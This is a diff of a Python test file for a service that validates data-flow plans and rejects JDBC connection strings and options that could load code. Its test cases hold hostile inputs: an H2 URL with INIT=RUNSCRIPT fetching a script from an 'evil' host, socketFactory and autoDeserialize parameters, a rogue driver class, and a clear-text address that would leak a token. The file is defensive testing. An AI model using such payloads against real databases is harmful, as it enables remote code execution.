@@ -304,21 +304,26 @@ def test_pickled_code_is_not_even_loaded(url: str, tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
-    ("address", "options", "taken"),
+    ("address", "options", "refused"),
     [
-        ("jdbc:postgresql://db/plant", {}, True),
-        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", {}, False),
-        ("jdbc:postgresql://db/plant?socketFactory=x", {}, False),
-        ("jdbc:mysql://db/plant?autoDeserialize=true", {}, False),
-        ("jdbc:postgresql://db/plant", {"driver": "evil.Driver"}, False),
-        ("jdbc:postgresql://db/plant", {"options": [["sessionInitStatement", "x"]]}, False),
+        ("jdbc:postgresql://db/plant?sslmode=require", {"options": [["batchsize", "100"]]}, None),
+        ("jdbc:postgresql://db/plant", {"driver": "org.postgresql.Driver"}, None),
+        ("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", {}, "the parameter 'INIT' of a h2 URL"),
+        ("jdbc:postgresql://db/plant?socketFactory=x", {}, "the parameter 'socketFactory'"),
+        ("jdbc:mysql://db/plant?autoDeserialize=true", {}, "the parameter 'autoDeserialize'"),
+        ("jdbc:postgresql://db/plant", {"driver": "evil.Driver"}, "the driver evil.Driver is not that of postgresql"),
+        (
+            "jdbc:postgresql://db/plant",
+            {"options": [["sessionInitStatement", "x"]]},
+            "no option 'sessionInitStatement'",
+        ),
     ],
 )
-def test_sinks_that_could_load_code_are_not_taken(url: str, address: str, options: dict[str, Any], taken: bool) -> None:
+def test_sinks_take_what_agents_let_them(url: str, address: str, options: dict[str, Any], refused: str | None) -> None:
     body = {"dataflow": to_jdbc(address, **options), "continuum": ZONES}
     with Client(url) as client:
-        found = client.ask("/plans", body, 200 if taken else 403)
-        assert taken or "code can be loaded" in found["detail"]
+        found = client.ask("/plans", body, 422 if refused else 200)
+        assert refused is None or (refused in found["detail"] and found["type"].endswith(":dataflow"))
 
 
 def test_functions_that_reach_into_java_are_unknown(url: str) -> None:
@@ -341,6 +346,9 @@ def test_zones_at_addresses_of_their_own_are_not_taken(tmp_path: Path) -> None:
         known = Continuum.from_text(strange).zones
         with serving(None, "127.0.0.1", 0, zones=known) as knowing, Client(knowing) as other:
             assert other.ask("/plans", body, 200)["units"]
+            # A known address in clear text would send the agent's token over the network.
+            body["continuum"] = strange.replace("grpc+tls://", "grpc+tcp://")
+            assert "grpc+tcp://evil.example" in other.ask("/plans", body, 403)["detail"]
 
 
 @pytest.mark.parametrize("settings", ["packages: ['evil:jar:1']", "conf: {spark.jars: /evil.jar}"])
